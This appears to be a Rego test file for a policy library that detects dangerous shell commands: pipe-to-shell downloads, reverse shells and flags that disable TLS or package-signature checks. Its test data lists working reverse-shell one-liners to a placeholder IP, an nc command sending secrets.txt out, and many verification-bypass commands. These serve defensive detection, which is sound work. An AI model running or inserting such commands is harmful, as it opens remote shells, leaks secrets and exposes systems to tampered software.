package policies.lib.shell_test

import data.policies.lib.shell

test_run_downloads if {
	every script in [
		"curl -sSL https://example.com/a.sh | bash",
		"wget -qO- https://example.com/a | sudo -E sh -s",
		"curl https://example.com/a.py | python3 -",
		`sh -c "$(curl -fsSL https://example.com/a.sh)"`,
		"bash <(curl -s https://example.com/a.sh)",
		"iex ((New-Object Net.WebClient).DownloadString('https://example.com/a.ps1'))",
		"irm https://example.com/a.ps1 | iex",
	] {
		count(shell.run_downloads(script)) > 0
	}
}

test_plain_downloads if {
	every script in [
		"curl -o a.sh https://example.com/a.sh && sha256sum -c a && sh a.sh",
		"curl https://example.com/a.json | python3 -m json.tool | tee a",
		"# curl https://example.com/a.sh | sh",
		"echo iex",
		3,
	] {
		shell.run_downloads(script) == set()
	}
}

test_reverse_shells if {
	every script in [
		"bash -i >& /dev/tcp/192.0.2.7/443 0>&1",
		"exec 5<>/dev/tcp/192.0.2.7/443; cat <&5 >/dev/tcp/x 2>&1",
		"nc -e /bin/sh 192.0.2.7 443",
		"nc 192.0.2.7 443 < secrets.txt",
		"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | nc host 443",
		"socat tcp:192.0.2.7:443 exec:/bin/bash",
	] {
		count(shell.reverse_shells(script)) > 0
	}
	shell.reverse_shells("nc -z db 5432 && echo up") == set()
	shell.reverse_shells(null) == set()
}

test_unchecked_transfers if {
	every script in [
		"curl -k https://example.com",
		"curl -sSLk https://example.com",
		"curl https://example.com --insecure -o x",
		"wget -q --no-check-certificate https://example.com/x",
		"pip install --trusted-host pypi.example.com x",
		"pip3 config set global.trusted-host pypi.example.com",
		"npm config set strict-ssl false",
		"yarn config set strict-ssl=false",
		"npm install --strict-ssl=false x",
		"git config --global http.sslVerify false",
		"git -c http.https://example.com.sslVerify=false clone x",
		"export GIT_SSL_NO_VERIFY=true",
		"apt-get install -y --allow-unauthenticated x",
		"apt-get --force-yes install x",
		`echo 'APT::Get::AllowUnauthenticated "true";' > /etc/apt/apt.conf.d/x`,
		`echo 'Acquire::https::Verify-Peer "false";' > x`,
		"echo 'deb [trusted=yes] https://example.com ./' > x",
		"yum -y install --nogpgcheck x",
		"dnf install --setopt=sslverify=false x",
		"zypper --no-gpg-checks install x",
		"sed -i 's/gpgcheck=1/gpgcheck=0/' x",
		"apk add --allow-untrusted x.apk",
		"rpm -i --nosignature x.rpm",
		"NODE_TLS_REJECT_UNAUTHORIZED=0 npm ci",
		"export PYTHONHTTPSVERIFY=0",
		"NPM_CONFIG_STRICT_SSL=false npm ci",
		"composer config -g secure-http false",
		"conda config --set ssl_verify false",
	] {
		count(shell.unchecked_transfers(script)) > 0
	}
}

test_checked_transfers if {
	every script in [
		"curl -fsSL https://example.com | tar -xk",
		"curl -fsSL -o x https://example.com/k && echo -k",
		"wget https://example.com",
		"pip install x",
		"npm config set strict-ssl true",
		"apt-get install -y x",
		"yum install -y x",
		"echo gpgcheck=1",
		"ANODE_TLS_REJECT_UNAUTHORIZED=0 make",
		"NODE_TLS_REJECT_UNAUTHORIZED=01 make",
		"# curl -k https://example.com",
		[],
	] {
		shell.unchecked_transfers(script) == set()
	}
}

test_variables_that_disable_checks if {
	shell.disables_checks("GIT_SSL_NO_VERIFY", 1)
	shell.disables_checks("NODE_TLS_REJECT_UNAUTHORIZED", "0")
	shell.disables_checks("npm_config_strict_ssl", false)
	shell.disables_checks("PIP_TRUSTED_HOST", "packages.example.com")
	not shell.disables_checks("PIP_TRUSTED_HOST", "")
	not shell.disables_checks("NODE_TLS_REJECT_UNAUTHORIZED", "1")
	not shell.disables_checks("GIT_SSL_NO_VERIFY", "0")
}
